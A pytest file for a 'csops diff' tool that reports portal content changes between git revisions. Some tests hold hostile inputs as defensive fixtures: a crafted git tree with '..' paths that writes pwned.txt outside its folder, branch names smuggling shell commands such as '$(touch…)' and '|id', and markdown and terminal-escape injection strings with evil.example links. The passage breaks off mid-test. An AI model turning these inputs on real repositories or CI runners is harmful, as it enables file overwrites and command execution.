"""`csops diff BASE [HEAD]` against real git repositories made in temporary folders."""

from __future__ import annotations

import json
import os
import re
import subprocess
import textwrap
from pathlib import Path

import pytest

from conftest import MINIMAL_MKDOCS, make_project

GIT_ENV = {"GIT_AUTHOR_NAME": "Ops", "GIT_AUTHOR_EMAIL": "ops@example.com", "GIT_COMMITTER_NAME": "Ops",
           "GIT_COMMITTER_EMAIL": "ops@example.com", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"}

BASE_FILES = {
    "content/playbooks/renewal.yml": """\
        title: Renewal
        summary: Renew on time.
        owner: cs-ops
        steps:
          - id: kickoff
            title: Kick off
            raci: {R: csm, A: cs-lead}
          - id: confirm
            title: Confirm the stakeholders
            owner: csm
          - id: close
            title: Close
        """,
    "content/faq/renewals.yml": """\
        title: Renewals
        owner: cs-ops
        entries:
          - {id: when, q: When do renewals start?, a: At T-120d.}
        """,
}

HEAD_FILES = {
    "content/playbooks/renewal-runway.yml": """\
        title: Renewal runway
        summary: Renew on time, every time.
        owner: csm
        aliases: [renewal]
        steps:
          - id: kickoff
            title: Kick off
            raci: {R: [csm, sales-ae], A: cs-ops}
          - id: confirm-stakeholders
            aliases: [confirm]
            title: Confirm the stakeholders
            owner: sales-ae
          - id: forecast
            title: Forecast the renewal
        """,
    "content/playbooks/qbr.yml": """\
        title: Quarterly business review
        owner: csm
        steps:
          - {id: prepare, title: Prepare}
          - {id: hold, title: Hold the QBR}
        """,
}

EXPECTED = """\
## Portal content changes: `main` → `HEAD`

**Pages: 1 added · 1 renamed · 0 removed · 1 changed — Items: 1 added · 1 renamed · 1 removed — 4 owner/RACI changes — 2 ticket links will say “changed” — ⚠️ 1 old URL not covered by aliases**

### Playbooks

| Change | Id | Details |
| --- | --- | --- |
| ➕ added | `qbr` | Quarterly business review — 2 steps, owner `csm` |
| 🔀 renamed | `renewal` → `renewal-runway` | Renewal runway (old id kept in `aliases`) |

**Steps**

- `renewal-runway` steps: ➕ `forecast` Forecast the renewal; 🔀 `confirm` → `confirm-stakeholders`; ➖ `close` Close

### Owners and RACI

| Where | Change |
| --- | --- |
| `renewal-runway` owner | cs-ops → csm |
| `renewal-runway` › `kickoff` RACI · R | +sales-ae |
| `renewal-runway` › `kickoff` RACI · A | cs-lead → cs-ops |
| `renewal-runway` › `confirm-stakeholders` owner | csm → sales-ae |

### Changed URLs

| Old URL | Now | Status |
| --- | --- | --- |
| `playbooks/renewal/` and its 1 anchor | `playbooks/renewal-runway/` and its 1 anchor | ✅ redirect / alias anchor |
| `playbooks/renewal/#close` | — | ❌ breaks: add `aliases: [close]` to the renamed item, or `csops urls --update` if intended |
| `playbooks/renewal/#confirm` | `playbooks/renewal-runway/#confirm-stakeholders` | ✅ redirect / alias anchor |

### Ticket links that will say “changed”

Links to these already copied into tickets will open with “This … changed on …, after this link was copied”:

- `playbooks/renewal/#kickoff` Kick off
- `playbooks/renewal/#confirm` Confirm the stakeholders

### Edited

- `renewal-runway` (playbook): title “Renewal” → “Renewal runway”, summary “Renew on time.” → “Renew on time, every time.”
"""


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, **GIT_ENV}
    return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True).stdout


def commit_all(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)


def committed_project(root: Path, files: dict) -> Path:
    """A project of `files` in a new git repository whose `main` has them committed ("base")."""
    project = make_project(root, files)
    git(project, "init", "-q", "-b", "main")
    commit_all(project, "base")
    return project


def make_repo(root: Path, subdir: str = "") -> Path:
    """A git repo whose `main` holds BASE_FILES and whose `HEAD` (branch pr) renames, adds and reassigns."""
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    project = make_project(root / subdir if subdir else root, BASE_FILES)
    commit_all(root, "base content")
    git(root, "switch", "-q", "-c", "pr")
    (project / "content/playbooks/renewal.yml").unlink()
    make_project(project, HEAD_FILES, with_defaults=False)
    commit_all(root, "rename renewal, add qbr")
    return project


def test_diff_summarises_a_pull_request_for_reviewers(tmp_path, run):
    project = make_repo(tmp_path / "repo")
    result = run("diff", "main", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert result.output == EXPECTED


def test_diff_reads_each_side_as_committed_whatever_its_gitattributes_say(tmp_path, run):
    """Red team: the sides were written by `git archive`, which applies the revision's own .gitattributes: a pull
    request adding a page with `export-ignore` beside it got 'No content changes' for it, and `export-subst` showed
    a title written '… $Format:%s$' as the commit's subject. Both are read as committed now, and a page committed
    executable (mode 100755: a chmod, a checkout from Windows) as the page it is."""
    project = make_repo(tmp_path / "repo")
    (project / "content/playbooks/qbr.yml").chmod(0o755)
    (project / ".gitattributes").write_text("content/playbooks/qbr.yml export-ignore\n"
                                            "content/faq/renewals.yml export-subst\n", encoding="utf-8")
    faq = project / "content/faq/renewals.yml"
    faq.write_text(faq.read_text(encoding="utf-8").replace("title: Renewals", "title: Renewals $Format:%s$"),
                   encoding="utf-8")
    commit_all(project, "Tidy up")
    result = run("diff", "main", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert "| ➕ added | `qbr` | Quarterly business review — 2 steps, owner `csm` |" in result.output
    assert "title “Renewals” → “Renewals \\$Format:%s\\$”" in result.output and "Tidy" not in result.output


def test_a_checkout_with_crlf_line_ends_is_no_site_change(tmp_path, run):
    """A checkout with core.autocrlf writes mkdocs.yml and the templates with CRLF, and the side read from git holds
    them as committed (LF): `csops diff main` listed 'mkdocs.yml: changed in layout or comments only' for files no
    one touched (git archive had converted the committed side too, until 9d2815c)."""
    project = make_repo(tmp_path / "repo")
    (project / "templates").mkdir()
    (project / "templates/labels.yml").write_text("en:\n  steps: Steps\n", encoding="utf-8")
    commit_all(project, "labels")
    git(project, "config", "core.autocrlf", "true")
    for name in ("mkdocs.yml", "templates/labels.yml"):
        (project / name).unlink()
    git(project, "checkout", "--", "mkdocs.yml", "templates/labels.yml")
    assert b"\r\n" in (project / "mkdocs.yml").read_bytes()
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0 and "No content changes" in result.output, result.output


def test_a_file_under_a_checkout_filter_is_compared_as_checked_out(tmp_path, run):
    """A file git stores through a clean/smudge filter (Git LFS's images, say) is written to the checkout smudged, and
    was read from git as stored: `csops diff HEAD` listed 'templates/assets/logo.svg: changed' for a file no one
    touched (git archive had smudged the committed side too, until 9d2815c; found by mut49)."""
    project = make_repo(tmp_path / "repo")
    git(project, "config", "filter.shade.clean", "sed s/red/blue/")
    git(project, "config", "filter.shade.smudge", "sed s/blue/red/")
    (project / ".gitattributes").write_text("*.svg filter=shade\n", encoding="utf-8")
    (project / "templates/assets").mkdir(parents=True)
    (project / "templates/assets/logo.svg").write_text('<svg fill="red"/>\n', encoding="utf-8")
    commit_all(project, "logo")
    assert git(project, "cat-file", "-p", "HEAD:templates/assets/logo.svg") == '<svg fill="blue"/>\n'
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0 and "No content changes" in result.output, result.output
    (project / "templates/assets/logo.svg").write_text('<svg fill="green"/>\n', encoding="utf-8")
    result = run("diff", "HEAD", "--project", project)
    assert "templates/assets/logo.svg" in result.output, result.output  # an edit still shows


def test_a_file_git_fills_in_ident_or_a_driver_no_one_configured_reads_as_checked_out(tmp_path, run, monkeypatch):
    """A page under `ident` has its $Id$ filled in by a checkout: 'csops diff HEAD' listed its title as changed ('$Id$'
    → '$Id: 6dbacb1… $') though no one touched it (red team). A filter naming a driver no one configured changes
    nothing, and a pull request's '* filter=x' had every file read from git twice (300 files: 0.73 s of CPU to 1.49 s)."""
    from generator import git_revisions

    project = make_repo(tmp_path / "repo")
    (project / ".gitattributes").write_text("content/*/*.yml ident\ncontent/playbooks/*.yml filter=x\n", encoding="utf-8")
    faq = project / "content/faq/renewals.yml"
    faq.write_text(faq.read_text(encoding="utf-8").replace("title: Renewals", 'title: "Renewals $Id$"'), encoding="utf-8")
    commit_all(project, "ident")
    faq.unlink()
    git(project, "checkout", "--", "content/faq/renewals.yml")
    assert "$Id: " in faq.read_text(encoding="utf-8")
    asked, read = [], git_revisions.git
    monkeypatch.setattr(git_revisions, "git", lambda top, *args, **kw: asked.append(args[:2]) or read(top, *args, **kw))
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0 and "No content changes" in result.output, result.output
    # renewals.yml; not the playbooks, whose driver is no one's and which hold no $Id for ident to fill in
    assert asked.count(("cat-file", "--filters")) == 1


def test_a_revisions_files_are_written_without_holding_them_in_memory(tmp_path):
    """write_blobs held every file of a side at once, twice over (git's whole output, then each file's slice): a
    pull request's 200 MB file took csops diff to 408 MiB (37 MiB now, farm-bench peaks), a few such files the CI
    runner's memory (red team). Each file goes from git to the disk a chunk at a time."""
    import tracemalloc

    from generator.git_revisions import tree_files, write_blobs

    project = make_repo(tmp_path / "repo")
    (project / "content/faq/big.yml").write_bytes(b"#" * 20_000_000)
    commit_all(project, "big")
    tracemalloc.start()
    try:
        write_blobs(project, tree_files(project, "HEAD", ["content"]), "", tmp_path / "side")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (tmp_path / "side/content/faq/big.yml").read_bytes() == b"#" * 20_000_000
    assert peak < 8_000_000, peak  # 40 MB before


def _commit_holding_dot_dot(repo: Path, levels: int) -> str:
    """A commit on HEAD whose content/ also holds '..' `levels` deep, then pwned.txt: a tree `git mktree` makes, which
    no checkout writes (git refuses it) but a crafted branch may carry."""
    def mktree(lines: str) -> str:
        env = {**os.environ, **GIT_ENV}
        return subprocess.run(["git", "mktree"], cwd=repo, env=env, input=lines, check=True, capture_output=True,
                              text=True).stdout.strip()

    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="pwned\n", check=True,
                          capture_output=True, text=True).stdout.strip()
    tree = mktree(f"100644 blob {blob}\tpwned.txt\n")
    for _ in range(levels - 1):
        tree = mktree(f"040000 tree {tree}\t..\n")
    content = mktree(git(repo, "ls-tree", "HEAD:content") + f"040000 tree {tree}\t..\n")
    root = mktree("".join(line + "\n" for line in git(repo, "ls-tree", "HEAD").splitlines() if not line.endswith("\tcontent"))
                  + f"040000 tree {content}\tcontent\n")
    return git(repo, "commit-tree", root, "-p", "HEAD", "-m", "Crafted").strip()


def test_a_commit_holding_a_dot_dot_path_writes_nothing_outside_the_scratch_folder(tmp_path, run):
    """Red team: a commit whose tree holds content/../../x (made with git mktree; GitHub's checks refuse to take one,
    a fetched branch or bundle need not) had `csops diff main <it>` write x outside the scratch folder: five '..'
    deep, pwned.txt landed in the project, and more reach any folder the user may write. What's new walking such a
    commit did the same. Such a path is left out, as a checkout leaves it."""
    from generator import history
    from generator.pipeline import load_portal

    project = make_repo(tmp_path / "repo")
    crafted = _commit_holding_dot_dot(project, 5)
    result = run("diff", "HEAD", crafted, "--project", project)
    assert result.exit_code == 0 and "No content changes" in result.output, result.output
    git(project, "reset", "-q", "--soft", crafted)
    history._SIDES.clear()
    assert history.read_change_feed(project, load_portal(project)).entries
    assert not list(tmp_path.rglob("pwned.txt"))
    # a commit taking the path away again: What's new removes no file of that name where the path leads either
    victims = [project / "build/pwned.txt", project / "pwned.txt", tmp_path / "pwned.txt"]
    for victim in victims:
        victim.write_text("mine\n", encoding="utf-8")
    git(project, "reset", "-q", "--soft", git(project, "commit-tree", "HEAD~1^{tree}", "-p", "HEAD", "-m", "Undo").strip())
    history._SIDES.clear()
    assert history.read_change_feed(project, load_portal(project)).entries
    assert [victim.read_text(encoding="utf-8") for victim in victims] == ["mine\n"] * 3


def test_a_file_whose_blob_git_lost_is_one_line_naming_it(tmp_path, run):
    """A revision whose tree names a blob the repository does not hold (a broken clone, a tree made with `git mktree
    --missing`), or one name as both a file and a folder, is an error naming the file, not a traceback."""
    project = make_repo(tmp_path / "repo")
    lost = "1234567890" * 4

    def mktree(listing: str) -> str:
        return subprocess.run(["git", "mktree", "--missing"], cwd=project, input=listing, check=True,
                              capture_output=True, text=True).stdout.strip()

    playbooks = mktree(git(project, "ls-tree", "HEAD:content/playbooks") + f"100644 blob {lost}\tlost.yml\n")
    content = mktree("".join(line + "\n" for line in git(project, "ls-tree", "HEAD:content").splitlines()
                             if not line.endswith("\tplaybooks")) + f"040000 tree {playbooks}\tplaybooks\n")
    root = mktree("".join(line + "\n" for line in git(project, "ls-tree", "HEAD").splitlines()
                          if not line.endswith("\tcontent")) + f"040000 tree {content}\tcontent\n")
    broken = git(project, "commit-tree", root, "-p", "HEAD", "-m", "Broken").strip()
    result = run("diff", "HEAD", broken, "--project", project)
    assert result.exit_code == 1 and result.output == (
        f"Error: git cat-file: blob {lost} of content/playbooks/lost.yml is missing\n"), result.output
    # one name as a file and a folder (git fsck's duplicateEntries): 'the file system refused: File exists
    # (build/scratch/diff-…/head/content/faq); fix that, then run it again', which no one could
    faq = git(project, "rev-parse", "HEAD:content/faq/renewals.yml").strip()
    content = mktree(git(project, "ls-tree", "HEAD:content") + f"100644 blob {faq}\tfaq\n")
    root = mktree("".join(line + "\n" for line in git(project, "ls-tree", "HEAD").splitlines()
                          if not line.endswith("\tcontent")) + f"040000 tree {content}\tcontent\n")
    both = git(project, "commit-tree", root, "-p", "HEAD", "-m", "Both").strip()
    result = run("diff", "HEAD", both, "--project", project)
    assert result.exit_code == 1 and result.output == (
        "Error: content/faq is both a file and a folder in a revision read from git (a tree no checkout can write; "
        "`git fsck` names its commit)\n"), result.output


def test_diff_without_head_compares_with_the_working_tree_in_a_subfolder(tmp_path, run):
    project = make_repo(tmp_path / "repo", subdir="portal")
    (project / "content/faq/renewals.yml").write_text(textwrap.dedent("""\
        title: Renewals
        owner: cs-lead
        entries:
          - {id: when, q: When do renewals start?, a: At T-120d.}
          - {id: who, q: Who owns the renewal?, a: The CSM.}
        """))
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert result.output == textwrap.dedent("""\
        ## Portal content changes: `HEAD` → `working tree`

        **Pages: 0 added · 0 renamed · 0 removed · 1 changed — Items: 1 added · 0 renamed · 0 removed — 1 owner/RACI change — all old URLs still resolve**

        ### FAQ topics

        **Entries**

        - `renewals` entries: ➕ `who` Who owns the renewal?

        ### Owners and RACI

        | Where | Change |
        | --- | --- |
        | `renewals` owner | cs-ops → cs-lead |
        """)


def test_diff_of_identical_revisions_says_so(tmp_path, run):
    project = make_repo(tmp_path / "repo")
    result = run("diff", "HEAD", "HEAD", "--project", project)
    assert result.output.endswith("all old URLs still resolve**\n\nNo content changes.\n")


def test_diff_still_reports_when_the_pull_request_breaks_a_file(tmp_path, run):
    project = make_repo(tmp_path / "repo")
    (project / "content/playbooks/qbr.yml").write_text("title: [unclosed\n")
    result = run("diff", "main", "--project", project)
    assert result.exit_code == 0
    assert "> ⚠️ `working tree` has 1 validation error; run `csops validate`." in result.output
    assert "🔀 renamed | `renewal` → `renewal-runway`" in result.output
    assert "`qbr`" not in result.output


def test_the_commands_a_pull_requests_comment_suggests_work_at_the_repository_root(tmp_path, run, monkeypatch):
    """The comment is read by the pull request's author at the repository's root: for a portal in portal/, its 'run
    `csops validate`' and '`csops urls --update` if intended' said 'no portal in .' typed there. They name the
    portal's folder in the repository, whether CI ran csops in the portal or at the root; JSON keeps them as written."""
    import shlex

    project = make_repo(tmp_path / "repo", subdir="portal")
    (project / "content/playbooks/qbr.yml").write_text("title: [unclosed\n")
    in_portal = run("diff", "main", "--project", project).output  # run in the portal, as the fixture runs it
    monkeypatch.chdir(tmp_path / "repo")
    at_root = run("diff", "main", "--project", "portal").output
    assert in_portal == at_root, at_root
    suggested = re.findall(r"`(csops [^`]*)`", at_root)
    assert "csops validate --project portal" in suggested and "csops urls --update --project portal" in suggested, at_root
    typed = run(*shlex.split("csops validate --project portal")[1:])  # typed at the root: the portal's errors
    assert typed.exit_code == 1 and typed.output.startswith("portal/content/playbooks/qbr.yml:1:"), typed.output
    assert "--project" not in run("diff", "main", "--project", "portal", "--format", "json").output


def test_a_comments_suggested_command_names_the_portals_folder_unless_a_backtick_would_cut_its_code_span():
    """The folder the comment's commands name is the portal's in its repository as codeowners.repo_prefix gives it
    ('portal/'): `--project portal`, and nothing for a portal at the root. A folder holding a backtick would end the
    comment's code span mid-command (`csops validate --project 'a`, then b'` as prose): the command is left whole."""
    from generator.suggested_commands import as_typed_at_the_root

    said = "has 1 validation error; run `csops validate`"
    assert as_typed_at_the_root(said, "portal/") == "has 1 validation error; run `csops validate --project portal`"
    assert as_typed_at_the_root(said, "") == said
    assert as_typed_at_the_root(said, "a`b/") == said


def test_diff_names_an_unknown_revision(tmp_path, run):
    project = make_repo(tmp_path / "repo")
    result = run("diff", "no-such-branch", "--project", project)
    assert result.exit_code == 1
    assert result.output == ("Error: unknown git revision 'no-such-branch' (fetch it first, e.g. `git fetch origin main`; "
                             "in GitHub Actions check out with fetch-depth: 0)\n")


@pytest.mark.parametrize("base, head, expected", [
    ("main..HEAD", None, "`csops diff main HEAD --project {}`"),
    ("main..", None, "`csops diff main HEAD --project {}`"),
    ("main...HEAD", None, "`csops diff $(git -C {} merge-base main HEAD) HEAD --project {}`"),
    ("main", "main..HEAD", "`csops diff main HEAD --project {}`"),
    # git takes $ ( ) | in a branch's name: pasted, the command ran what it held (red team)
    ("x$(touch${IFS}pwned)..HEAD", None, "`csops diff 'x$(touch${IFS}pwned)' HEAD --project {}`"),
    ("main...x|id", None, "`csops diff $(git -C {} merge-base main 'x|id') 'x|id' --project {}`"),
    ("a`b..HEAD", None, "csops diff 'a`b' HEAD"),  # a backtick would end the code span: bare, as typed here
])
def test_diff_given_a_range_names_its_two_ends(tmp_path, run, monkeypatch, base, head, expected):
    """A range typed as git diff and git log take it ('csops diff main..HEAD') was 'unknown git revision
    'main..HEAD' (fetch it first, e.g. `git fetch origin main`…)': fetching changed nothing, and the branch was there.
    The command is one to paste: each end shell-quoted, and the portal named as this run named it (from its folder's
    parent here: it was left out, and the command typed as shown said 'no portal'), for git's merge-base too (run
    in the folder typed in, it failed there, and csops diff compared the branch with the working tree)."""
    make_repo(tmp_path / "repo")
    monkeypatch.chdir(tmp_path)
    result = run("diff", base, *([head] if head else []), "--project", "repo")
    assert result.exit_code == 1
    shown = head or base
    assert result.output == (f"Error: '{shown}' is a range of commits; csops diff takes the two revisions it compares "
                             f"as two arguments: {expected.replace('{}', 'repo')}\n")


def test_diff_outside_a_git_repository_says_what_it_needs(project_factory, run):
    """It printed git's own words after the internal command: 'git rev-parse --show-prefix: fatal: …'."""
    project = project_factory({})
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 1
    assert result.output.startswith("Error: ") and "is not in a git repository" in result.output
    assert "git init" in result.output and "rev-parse" not in result.output, result.output


def test_diff_output_file_for_a_pr_comment(tmp_path, run):
    project = make_repo(tmp_path / "repo")
    out = tmp_path / "comment.md"
    run("diff", "main", "HEAD", "--project", project, "--output", out)
    assert out.read_text() == EXPECTED


def test_diff_lists_glossary_role_and_settings_changes(tmp_path, run):
    # they change hovers, searches and every page's role names, and the summary used to say "No content changes"
    project = make_repo(tmp_path / "repo")
    git(project, "switch", "-q", "main")
    glossary = "terms:\n  - {id: sev1, term: Sev1, definition: Highest severity.}\n"
    make_project(project, {"content/glossary.yml": glossary, "content/settings.yml": "review_interval: 180d\n"},
                 with_defaults=False)
    commit_all(project, "glossary")
    glossary = glossary.replace("term: Sev1", "term: Sev-1") + "  - {id: voc, term: VOC, definition: Voice of the customer.}\n"
    make_project(project, {"content/glossary.yml": glossary, "content/settings.yml": "review_interval: 90d\n"},
                 with_defaults=False)
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert "— 3 glossary/role/setting changes —" in result.output and "No content changes" not in result.output
    assert result.output.endswith(textwrap.dedent("""\
        ### Glossary, roles and settings (shown on every page)

        - ➕ glossary term `voc` VOC
        - ✏️ glossary term `sev1` Sev1 → Sev-1: term
        - ✏️ setting `review_interval` 180d → 90d
        """))
    payload = json.loads(run("diff", "HEAD", "--project", project, "--format", "json").output)
    assert {(c["action"], c["id"]) for c in payload["catalogs"]} == {("added", "voc"), ("changed", "sev1"), ("changed", "review_interval")}



def test_diff_lists_a_timezone_change(tmp_path, run):
    """A new timezone re-dates every What's-new entry and 'changed on' notice: the PR comment said 'No content
    changes'."""
    project = make_repo(tmp_path / "repo")
    git(project, "switch", "-q", "main")
    make_project(project, {"content/settings.yml": "review_interval: 180d\n"}, with_defaults=False)
    commit_all(project, "settings")
    make_project(project, {"content/settings.yml": "review_interval: 180d\ntimezone: Asia/Tokyo\n"}, with_defaults=False)
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0, result.output
    assert "No content changes" not in result.output
    assert result.output.endswith("- ✏️ setting `timezone` UTC → Asia/Tokyo\n"), result.output

def test_a_catalog_broken_on_one_side_is_named_not_listed_as_emptied(tmp_path, run):
    # "- id voc" (a colon lost) read as if every glossary term had been removed
    project = make_repo(tmp_path / "repo")
    glossary = "terms:\n  - {id: sev1, term: Sev1, definition: Highest severity.}\n  - {id: voc, term: VOC, definition: Voice.}\n"
    make_project(project, {"content/glossary.yml": glossary}, with_defaults=False)
    commit_all(project, "glossary")
    (project / "content/glossary.yml").write_text(glossary.replace("{id: voc,", "{id voc,"), encoding="utf-8")
    result = run("diff", "HEAD", "--project", project)
    assert "removed" not in result.output.split("### Glossary", 1)[-1] and "glossary/role/setting change" not in result.output
    assert "- ⚠️ file `content/glossary.yml` has errors on one side: its entries are not compared" in result.output
    # the loader takes glossary.yaml too
    (project / "content/glossary.yml").rename(project / "content/glossary.yaml")
    result = run("diff", "HEAD", "--project", project)
    assert "- ⚠️ file `content/glossary.yaml` has errors on one side: its entries are not compared" in result.output
    assert "glossary/role/setting change" not in result.output


def test_a_page_broken_on_one_side_is_not_compared_not_listed_as_removed(tmp_path, run):
    """A slip in qbr.yml ('title: *QBR* prep', YAML's alias) made the PR comment say 'qbr removed' and every URL of
    the page '❌ breaks'; a page whose file has errors is now read as it was, and named as not compared."""
    project = make_repo(tmp_path / "repo")
    make_project(project, {"content/playbooks/qbr.yml": "title: QBR\nsteps:\n  - {id: prep, title: Prep}\n",
                           "content/playbooks/renewal.yml": "title: Renewal\nsteps: [{id: s, title: S}]\n"})
    commit_all(project, "two playbooks")
    run("urls", "--update", "--project", project)
    commit_all(project, "manifest")
    (project / "content/playbooks/qbr.yml").write_text("title: *QBR* prep\nsteps:\n  - {id: prep, title: Prep}\n")
    (project / "content/playbooks/renewal.yml").write_text("title: Renewal runway\nsteps: [{id: s, title: S}]\n")
    result = run("diff", "HEAD", "--project", project)
    assert "removed" not in result.output.split("**Pages", 1)[1].split("**", 1)[1], result.output
    assert "**Pages: 0 added · 0 renamed · 0 removed · 1 changed" in result.output and "❌" not in result.output
    assert "all old URLs still resolve" in result.output
    assert "> Not compared, as they have errors in `working tree`: `content/playbooks/qbr.yml`" in result.output
    # a page whose shape is broken (steps as text) likewise
    (project / "content/playbooks/qbr.yml").write_text("title: QBR\nsteps: prep\n")
    result = run("diff", "HEAD", "--project", project)
    assert "0 removed" in result.output and "❌" not in result.output, result.output


_PHRASED_FAQ = textwrap.dedent("""\
    title: Renewals
    entries:
      - id: not-responding
        q: The customer is not responding. What now?
        asked_as: [client ghosting me, renewal | and silence]
        a: Go wider and higher.
    """)


def _committed_faq(tmp_path) -> tuple[Path, str]:
    """A repository whose last commit holds one FAQ entry with asked_as phrases; (project, that file's text)."""
    project = make_repo(tmp_path / "repo")
    make_project(project, {"content/faq/renewals.yml": _PHRASED_FAQ}, with_defaults=False)
    commit_all(project, "faq")
    return project, _PHRASED_FAQ


def test_diff_shows_the_asked_as_phrases_a_pull_request_adds_and_removes(tmp_path, run):
    # no page shows them, so the pull request is where a reviewer reads them; the field name alone said nothing
    project, faq = _committed_faq(tmp_path)
    make_project(project, {"content/faq/renewals.yml": faq.replace("client ghosting me", "client went dark")},
                 with_defaults=False)
    result = run("diff", "HEAD", "--project", project)
    assert "- `renewals` (faq): entry `not-responding`: asked_as (+ “client went dark”; − “client ghosting me”)\n" \
        in result.output
    # the page readers see stays the same: the headline does not count it as a changed page
    assert "· 0 changed · 1 with only search phrases changed —" in result.output
    payload = json.loads(run("diff", "HEAD", "--project", project, "--format", "json").output)
    page = payload["kinds"]["faq"]["changed"][0]
    assert page["search_only"] is True
    assert page["items"]["changed"][0] == {"id": "not-responding", "fields": ["asked_as"],
                                           "asked_as": {"added": ["client went dark"], "removed": ["client ghosting me"]}}
    # a change readers see as well makes it a changed page again
    make_project(project, {"content/faq/renewals.yml": faq.replace("client ghosting me", "client went dark")
                           .replace("Go wider", "Go much wider")}, with_defaults=False)
    result = run("diff", "HEAD", "--project", project)
    assert "· 1 changed —" in result.output and "search phrases changed" not in result.output
    payload = json.loads(run("diff", "HEAD", "--project", project, "--format", "json").output)
    assert payload["kinds"]["faq"]["changed"][0]["search_only"] is False


def test_content_text_in_the_pr_comment_stays_literal(tmp_path, run):
    # the comment is posted on the pull request: a phrase or title must not hide the rest of it (<!--), ping a
    # team (@), make a link, or send a terminal sequence to whoever reads it in a shell
    project, faq = _committed_faq(tmp_path)
    hostile = ('[when to start <!--, "--> ping @acme/cs-leadership [docs](https://evil.example/login)", '
               '"red \\e]0;TITLE\\a *bold* | cell"]')
    make_project(project, {"content/faq/renewals.yml": faq.replace("[client ghosting me, renewal | and silence]", hostile)
                           .replace("What now?", "What now? @acme/cs <!-- hidden")}, with_defaults=False)
    result = run("diff", "HEAD", "--project", project)
    assert result.exit_code == 0
    edited = next(line for line in result.output.splitlines() if "asked_as (" in line)
    assert not re.search(r"(?<!\\)[<>|*\[\]]", edited), edited  # every markup character escaped
    assert "@acme" not in edited and "@\u2060acme/cs-leadership" in edited and "\x1b" not in edited
    assert "+ “when to start \\<!--”" in edited and "\\[docs\\](https:\u2060//evil.example/login)" in edited
    assert "red \\\\u001b\\]0;TITLE\\\\u0007 \\*bold\\* \\| cell" in edited


def test_a_retitled_step_and_a_renamed_role_say_what_they_were(tmp_path, run):
    """'qbr (playbook): step pull-data: title' and 'role cs-ops …: name' told a reviewer something changed, not what:
    the review is where a title is checked, so the comment shows it before and after."""
    from conftest import REPO, copy_bundled

    repo = copy_bundled(tmp_path / "repo", REPO)
    git(repo, "init", "-q")
    commit_all(repo, "base")
    qbr = repo / "content/playbooks/qbr.yml"
    qbr.write_text(qbr.read_text(encoding="utf-8").replace("    title: Pull the data pack", "    title: Pull the usage pack", 1),
                   encoding="utf-8")
    roles = repo / "content/roles.yml"
    roles.write_text(roles.read_text(encoding="utf-8").replace("name: CS Operations", "name: Customer Success Operations", 1),
                     encoding="utf-8")
    out = run("diff", "HEAD", "--project", repo).output
    assert "- `qbr` (playbook): step `pull-data`: title “Pull the data pack” → “Pull the usage pack”" in out, out
    assert "- ✏️ role `cs-ops` CS Operations → Customer Success Operations: name" in out, out


def test_a_removed_pages_anchors_say_the_page_is_gone(tmp_path, run):
    """Each anchor of a removed FAQ topic said "add `aliases: [data-freshness]` to the renamed item"."""
    from conftest import REPO, copy_bundled

    repo = copy_bundled(tmp_path / "repo", REPO)
    git(repo, "init", "-q")
    commit_all(repo, "base")
    (repo / "content/faq/tools-and-data.yml").unlink()
    out = run("diff", "HEAD", "--project", repo).output
    rows = [line for line in out.splitlines() if line.startswith("| `faq/tools-and-data/")]
    # its anchors go with it: counted in the page's row, whose fix is the page's
    assert rows == ["| `faq/tools-and-data/` and its 6 anchors | — | ❌ breaks: add `aliases: [tools-and-data]` to the "
                    "renamed page, or `csops urls --update` if intended |"], rows
    assert "renamed item" not in out and "⚠️ 7 old URLs not covered by aliases" in out


def test_a_title_in_the_pr_comment_makes_no_reference_emoji_math_or_link():
    """'acme/repo#12 :rocket: $a_b$ https://evil.example/x' in a title posted a backlink in another repository,
    and rendered an emoji, math and a link in the comment; it reads the same, with invisible word joiners."""
    from generator.escaping import literal_markdown

    shown = literal_markdown("acme/repo#12 :rocket: $a_b$ https://evil.example/x Ticket #123 at 12:30")
    assert "#12" not in shown and "#123" not in shown and ":rocket:" not in shown and "https://" not in shown
    assert "\\$a\\_b\\$" in shown and "12:30" in shown
    assert shown.replace("\u2060", "").replace("\\", "") == "acme/repo#12 :rocket: $a_b$ https://evil.example/x Ticket #123 at 12:30"


def test_a_title_in_the_pr_comment_makes_no_www_link_or_gh_reference(tmp_path, run):
    """'see www.evil.example' in a step title was a link in the PR comment (GitHub autolinks 'www.' as it does
    'https://'), and 'GH-12' a reference to issue 12 with a backlink there; both now read as typed."""
    project, faq = _committed_faq(tmp_path)
    make_project(project, {"content/faq/renewals.yml": faq.replace("What now?", "What now? see www.evil.example/login, GH-12 and _WWW.evil.example")},
                 with_defaults=False)
    out = run("diff", "HEAD", "--project", project).output
    line = next(line for line in out.splitlines() if "evil.example" in line)
    assert not re.search(r"(?i)www\.", line) and not re.search(r"(?i)gh-\d", line), line
    assert "see www\u2060.evil.example/login, GH-\u206012 and \\_WWW\u2060.evil.example" in line, line


def test_aliases_recorded_before_the_range_are_not_listed_again(tmp_path, run):
    """A rename's alias, once merged, was listed under Changed URLs in every later PR comment, even for an
    unrelated one-line edit. The rename's own range still lists it."""
    from conftest import REPO, copy_bundled

    repo = copy_bundled(tmp_path / "repo", REPO)
    git(repo, "init", "-q")
    commit_all(repo, "base")
    assert run("mv", "step", "qbr", "follow-up", "send-follow-up", "--project", repo).exit_code == 0
    out = run("diff", "HEAD", "--project", repo).output
    rows = [line for line in out.splitlines() if line.startswith("| `playbooks/")]
    assert rows == ["| `playbooks/qbr/#follow-up` | `playbooks/qbr/#send-follow-up` | ✅ redirect / alias anchor |"], out
    commit_all(repo, "rename the follow-up step")
    faq = repo / "content/faq/onboarding.yml"
